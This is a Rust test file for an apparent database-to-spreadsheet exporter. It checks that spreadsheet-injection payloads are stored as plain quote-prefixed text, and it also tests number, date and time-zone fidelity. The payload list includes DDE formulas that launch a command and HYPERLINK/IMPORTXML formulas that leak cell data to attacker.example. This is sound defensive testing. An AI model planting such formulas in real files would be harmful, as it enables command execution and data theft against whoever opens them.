//! Workbooks from the binary: what a spreadsheet must never run or round, and what it shows as what it is.

use std::collections::BTreeMap;
use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::Command;

use calamine::{Data, Reader, Xlsx};
use rowport_model::SourceKind;
use rowport_testkit::{Database, Sqlite};

use crate::binary::{export, soak};
use crate::cells::part;

/// From OWASP's page on CSV injection and the published collections of such cells.
const FORMULAS: [&str; 16] = [
    "=1+1",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://attacker.example/?leak=\"&A1&B1,\"Click\")",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "-2+3+cmd|' /C calc'!D2",
];

fn workbook(database: &Database, dataset: &str, more: &[&str]) -> Vec<u8> {
    let exported = export(database, dataset, "xlsx", more).unwrap_or_else(|answer| panic!("{answer:?}"));
    std::fs::read(&exported.path).unwrap()
}

fn range(bytes: &[u8], sheet: usize) -> calamine::Range<Data> {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    book.worksheet_range(&book.sheet_names()[sheet].clone()).unwrap()
}

fn hazards() -> Database {
    let database = Sqlite::create();
    database.execute("CREATE TABLE hazards (id INTEGER PRIMARY KEY, t TEXT)");
    let values =
        FORMULAS.iter().enumerate().map(|(id, text)| format!("({id}, '{}')", text.replace('\'', "''")));
    database.execute(&format!("INSERT INTO hazards VALUES {}", values.collect::<Vec<_>>().join(", ")));
    database.execute(
        "CREATE TABLE kinds (id INTEGER PRIMARY KEY, card TEXT, big INTEGER, zip TEXT, day DATE, at DATETIME, clock TIME,
             yes BOOLEAN, price DECIMAL(12,2));
         INSERT INTO kinds VALUES (1, '4111111111111111', 4111111111111111, '01067', '2024-02-29', '2024-02-29 23:59:59',
             '12:30:00', 1, 12.5), (2, '999999999999999', 999999999999999, '7', '1899-12-31', '2024-02-29 12:00:00.123456', NULL, 0, -5)",
    );
    database
}

#[test]
fn what_a_spreadsheet_would_run_is_text() {
    let database = hazards();
    for raw in [&[][..], &["--raw"]] {
        let bytes = workbook(&database, "hazards", raw);
        let range = range(&bytes, 0);
        for (row, formula) in FORMULAS.iter().enumerate() {
            let Some(Data::String(read)) = range.get_value((row as u32 + 1, 1)) else {
                panic!("{formula:?} is not a text: {:?}", range.get_value((row as u32 + 1, 1)))
            };
            let exact = read.replace("_x000D_", "\r") == *formula || read.replace('\n', "\r") == *formula;
            assert!(exact, "{read:?} is not {formula:?}");
        }
        let xml = part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "there is a formula in the sheet");
    }
    // Guarded cells stay texts when somebody edits them; their style says so.
    for (options, expected) in [(&[][..], true), (&["--raw"], false)] {
        let bytes = workbook(&database, "hazards", options);
        let (styles, xml) = (part(&bytes, "xl/styles.xml"), part(&bytes, "xl/worksheets/sheet1.xml"));
        let styles: Vec<&str> = styles.split("<cellXfs").nth(1).unwrap().split("<xf ").skip(1).collect();
        for row in 2..FORMULAS.len() + 2 {
            let cell = xml.split(&format!("<c r=\"B{row}\"")).nth(1).unwrap().split('>').next().unwrap();
            let style = cell.split("s=\"").nth(1).map_or("0", |style| style.split('"').next().unwrap());
            let guarded = styles[style.parse::<usize>().unwrap()].contains("quotePrefix=\"1\"");
            assert_eq!(guarded, expected, "{options:?}: {:?}", FORMULAS[row - 2]);
        }
    }
}

#[test]
fn numbers_are_numbers_as_long_as_nothing_is_rounded() {
    let bytes = workbook(&hazards(), "kinds", &[]);
    let range = range(&bytes, 0);
    let cell = |row, column| range.get_value((row, column)).unwrap_or(&Data::Empty).clone();
    let text = |text: &str| Data::String(text.to_owned());
    assert_eq!(cell(1, 1), text("4111111111111111"));
    assert_eq!(cell(1, 2), text("4111111111111111"), "sixteen digits would be rounded");
    assert_eq!(cell(2, 2), Data::Float(999_999_999_999_999.0));
    assert_eq!(cell(1, 3), text("01067"));
    let moment = |row, column| match cell(row, column) {
        Data::DateTime(moment) => moment.as_f64(),
        other => panic!("{other:?} is no moment"),
    };
    assert_eq!(moment(1, 4), 45_351.0);
    assert_eq!((moment(1, 5) * 86_400.0).round(), 45_351.0 * 86_400.0 + 86_399.0);
    assert_eq!(moment(1, 6), 0.520_833_333_333_333_4);
    assert_eq!(cell(2, 4), text("1899-12-31"), "Excel's days begin later");
    let micros = (moment(2, 5).fract() * 86_400e6).round();
    assert_eq!((moment(2, 5).trunc(), micros), (45_351.0, 43_200_123_456.0), "to the microsecond");
    assert_eq!((cell(1, 7), cell(2, 7)), (Data::Bool(true), Data::Bool(false)));
    assert_eq!((cell(1, 8), cell(2, 8)), (Data::Float(12.5), Data::Float(-5.0)));
    assert_eq!(cell(2, 6), Data::Empty);
}

/// A moment with microseconds, as PostgreSQL's `now()` has them, and one with whole seconds.
fn moments(kind: SourceKind) -> Database {
    let database = Database::create(kind);
    let moment = if kind == SourceKind::Postgres { "timestamptz" } else { "timestamp(6)" };
    database.execute(&format!(
        "CREATE TABLE moments (id integer PRIMARY KEY, at {moment} NULL, plain {} NULL)",
        if kind == SourceKind::Postgres { "timestamp" } else { "datetime(6)" }
    ));
    let zone = match kind {
        SourceKind::Postgres => "SET TIME ZONE 'UTC'",
        _ => "SET time_zone = '+00:00'",
    };
    database.execute(&format!(
        "{zone}; INSERT INTO moments VALUES (1, '2022-09-10 16:46:03.905795', '2022-09-10 16:46:03.905795'),
            (2, '2022-09-10 16:46:03', '2022-09-10 16:46:03')"
    ));
    database
}

#[test]
fn a_moment_in_time_is_a_date_and_says_its_zone() {
    for kind in [SourceKind::Postgres, SourceKind::Mysql] {
        let bytes = workbook(&moments(kind), "moments", &[]);
        let range = range(&bytes, 0);
        for (row, micros) in [(1, 60_363_905_795.0), (2, 60_363_000_000.0)] {
            for column in [1, 2] {
                let Some(Data::DateTime(moment)) = range.get_value((row, column)) else {
                    panic!("{kind}: {:?} is no date", range.get_value((row, column)))
                };
                assert_eq!((moment.as_f64().fract() * 86_400e6).round(), micros, "{kind}");
                assert_eq!(moment.as_f64().trunc(), 44_814.0, "{kind}");
            }
        }
        let styles = part(&bytes, "xl/styles.xml");
        for format in ["yyyy-mm-dd hh:mm:ss.000&quot; UTC&quot;", "yyyy-mm-dd hh:mm:ss&quot; UTC&quot;"] {
            assert!(styles.contains(format), "{format} is not in {styles}");
        }
        let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
        let style = |cell: &str| {
            let cell = sheet.split(&format!("<c r=\"{cell}\"")).nth(1).unwrap().split('>').next().unwrap();
            cell.split("s=\"").nth(1).unwrap().split('"').next().unwrap().to_owned()
        };
        assert_ne!(style("B2"), style("C2"), "{kind}: what has no zone says none");
    }
}

#[test]
fn a_sheet_for_each_value_when_asked_for() {
    let database = rowport_testkit::chinook::sqlite();
    let bytes = workbook(&database, "Customer", &["--sheet-by", "Country", "--sort", "-CustomerId"]);
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(&bytes[..])).unwrap();
    let mut found = BTreeMap::new();
    for name in book.sheet_names() {
        found.insert(name.clone(), (book.worksheet_range(&name).unwrap().height() - 1).to_string());
    }
    let text = |cell: Option<Vec<u8>>| String::from_utf8(cell.unwrap()).unwrap();
    let counts = database.rows("SELECT Country, count(*) FROM Customer GROUP BY Country").into_iter();
    let counts: BTreeMap<String, String> =
        counts.map(|mut row| (text(row[0].take()), text(row[1].take()))).collect();
    assert_eq!(found, counts);
}

/// Rows for as many sheets as wanted, without a table of them.
fn narrow(rows: u64) -> Database {
    let database = Sqlite::create();
    database.execute(&format!(
        "CREATE VIEW narrow AS WITH RECURSIVE s(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM s WHERE n < {rows}) SELECT n FROM s"
    ));
    database
}

#[test]
fn more_rows_than_a_sheet_has_go_on_the_next_one_in_the_soak() {
    if !soak() {
        return;
    }
    let bytes = workbook(&narrow(2_200_000), "narrow", &[]);
    let mut next = 1.0;
    for sheet in 0..3 {
        let range = range(&bytes, sheet);
        assert_eq!(range.height(), if sheet < 2 { 1_048_576 } else { 2_200_000 - 2 * 1_048_575 + 1 });
        assert_eq!(range.get_value((0, 0)), Some(&Data::String("n".to_owned())));
        for row in range.rows().skip(1) {
            assert_eq!(row, [Data::Float(next)]);
            next += 1.0;
        }
    }
    assert_eq!(next, 2_200_001.0);
}

/// openpyxl in an environment of its own, made once.
fn python() -> PathBuf {
    let target = Path::new(env!("CARGO_TARGET_TMPDIR")).join("openpyxl");
    let python = target.join("bin/python");
    if !python.exists() {
        assert!(Command::new("python3").args(["-m", "venv"]).arg(&target).status().unwrap().success());
        let install = ["-m", "pip", "install", "--quiet", "openpyxl"];
        assert!(Command::new(&python).args(install).status().unwrap().success());
    }
    python
}

const OPENPYXL: &str = "
import sys, openpyxl
book = openpyxl.load_workbook(sys.argv[1], read_only=True)
for sheet in book.worksheets:
    kinds, rows = {}, 0
    for row in sheet.iter_rows():
        rows += 1
        for cell in row:
            if rows > 1:
                kinds[(cell.column_letter if cell.value is not None else '', cell.data_type)] = cell.number_format if cell.value is not None else ''
    print(sheet.title, rows, sorted(kinds.items()))
";

#[test]
fn other_programs_open_workbooks_without_repair_in_the_soak() {
    if !soak() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let opened = |database: &Database, dataset: &str| {
        let path = folder.path().join(format!("{dataset}.xlsx"));
        std::fs::write(&path, workbook(database, dataset, &[])).unwrap();
        let output = Command::new(python()).args(["-c", OPENPYXL]).arg(&path).output().unwrap();
        assert!(output.status.success(), "{output:?}");
        (path, String::from_utf8(output.stdout).unwrap())
    };
    let converted = |path: &Path| {
        let convert = ["--headless", "--convert-to", "csv", "--outdir"];
        let home = format!("-env:UserInstallation=file://{}/office", folder.path().display());
        let output =
            Command::new("soffice").arg(home).args(convert).arg(folder.path()).arg(path).output().unwrap();
        assert!(output.status.success(), "{output:?}");
        std::fs::read_to_string(path.with_extension("csv")).unwrap()
    };
    let (kinds_path, kinds) = opened(&hazards(), "kinds");
    for kind in [
        "(('B', 's'), '@')",
        "(('D', 's'), '@')",
        "(('E', 'd'),",
        "(('F', 'd'),",
        "(('G', 'd'),",
        "(('H', 'b'),",
        "(('I', 'n'),",
    ] {
        assert!(kinds.contains(kind), "{kind} is not in {kinds}");
    }
    let (path, kinds) = opened(&moments(SourceKind::Postgres), "moments");
    assert!(kinds.contains("(('B', 'd'), 'yyyy-mm-dd hh:mm:ss\" UTC\"')"), "{kinds}");
    let csv = converted(&path);
    assert!(csv.contains("2022-09-10 16:46:03.906 UTC,2022-09-10 16:46:03.906"), "{csv}");
    assert!(csv.contains("2022-09-10 16:46:03 UTC,2022-09-10 16:46:03\n"), "{csv}");
    let (_, formulas) = opened(&hazards(), "hazards");
    assert!(!formulas.contains("'f')"), "{formulas}");
    let (_, million) = opened(&narrow(1_000_000), "narrow");
    assert!(million.starts_with("narrow 1000001 "), "{million}");

    let csv = converted(&kinds_path);
    assert!(csv.contains("4111111111111111,4111111111111111,01067"), "{csv}");
}
